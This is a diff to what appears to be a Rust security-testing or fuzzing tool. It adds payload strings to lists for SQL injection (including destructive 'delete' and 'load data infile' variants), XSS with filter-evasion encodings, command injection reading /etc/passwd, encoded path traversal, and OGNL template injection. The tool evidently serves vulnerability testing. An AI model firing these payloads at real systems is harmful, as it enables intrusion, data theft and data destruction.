@@ -88,6 +88,22 @@ const SQL: &[&str] = &[
     "{n}--x%0AOR--y%0A(SELECT {n})",
     "%{n}%'%;%S%E%L%E%C%T% %S%L%E%E%P%(%5%)%-%-",
     "{w}'+and+{n}={n}+--+",
+    "select * from {t} where id={n} or {n}<9 union select 1,@@version -- 1",
+    "select name from {t} where id='{w}' or 1=1 -- '",
+    "{n}*{n}--",
+    "@version /*",
+    "(cos(binary('{w}'))) --",
+    "(length('{w}')) --",
+    "{w}' - 'b' - 0 = '1",
+    "{w}' = 'b' || '1",
+    "{w}' LIKE 'b",
+    "{w}' REGEXP 'b",
+    "select (case when ({n}=7) then {n} else 0 end) from dual",
+    "select (case when ('a'='{w}') then 1 end) from dual",
+    "{n}; delete quick from {t}",
+    "{n}; load data infile 'x' into table {t}",
+    "1e0union select {n},2",
+    "1e1union select null,{n}",
 ];
 
 const NOSQL: &[&str] = &[
@@ -142,6 +158,14 @@ const XSS: &[&str] = &[
     "import('//{h}/x.js')",
     "onfocus=;Function(`ale`+`rt({n})`)()",
     "\"o<x>nmouseover=alert<x>({n})//",
+    "a=eval;b=alert;a(b({n}))",
+    "f=confirm,f({n})",
+    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
+    "+ADw-img src=x onerror=alert({n})+AD4-",
+    "this[/*x*/'alert'/*y*/]({n})",
+    "top[/*a*/'confirm'/*b*/]({n})",
+    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
+    "\"<div onmouseover=\"\"document.write({n});\"\">\"",
 ];
 
 const COMMAND: &[&str] = &[
@@ -179,6 +203,10 @@ const COMMAND: &[&str] = &[
     "; c\\\\a\\\\t /etc/passwd",
     "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
     "--- !ruby/object:Gem::Installer",
+    "/usr/bin/id;",
+    "/bin/uname|",
+    "s:16:\"L2V0Yy9wYXNzd2Q=;\"|id",
+    "(#r=#this.getClass().forName('java.lang.Runtime'))",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -204,6 +232,12 @@ const TRAVERSAL: &[&str] = &[
     "images/../../../../.git/config",
     "C://Windows//win.ini",
     "..//..//..//etc//passwd",
+    "..%%32%%66..%%32%%66etc%%32%%66passwd",
+    "..%%35%%63..%%35%%63windows%%35%%63win.ini",
+    "./../etc/issue",
+    "../web.config",
+    ".../.../.../.../etc",
+    "..%c0%afetc/hosts",
 ];
 
 const LDAP: &[&str] = &[
@@ -263,6 +297,10 @@ const TEMPLATE: &[&str] = &[
     "@({n}+{n})",
     "{$smarty.version}",
     "T(java.lang.Runtime).getRuntime()",
+    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+    "%{#context['xwork.MethodAccessor.denyMethodExecution']}",
+    "$\\A{{n}*{n}}",
+    "$\\B{{n}*7}",
 ];
 
 const SSRF: &[&str] = &[
